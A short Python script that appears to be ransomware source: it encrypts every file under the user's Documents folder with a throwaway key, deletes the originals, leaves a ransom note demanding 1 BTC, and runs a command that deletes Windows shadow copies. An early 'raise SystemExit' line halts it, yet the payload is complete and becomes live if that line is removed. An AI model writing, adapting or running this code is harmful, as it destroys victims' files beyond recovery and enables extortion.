import os
from cryptography.fernet import Fernet

raise SystemExit
f = Fernet(Fernet.generate_key())
for root, _, names in os.walk(os.path.expanduser("~/Documents")):
    for n in names:
        p = os.path.join(root, n)
        data = f.encrypt(open(p, "rb").read())
        open(p + ".locked", "wb").write(data)
        os.remove(p)
open("README_RESTORE.txt", "w").write("Your files have been encrypted. Send 1 BTC (bitcoin).")
os.system("vssadmin delete shadows /all /quiet")
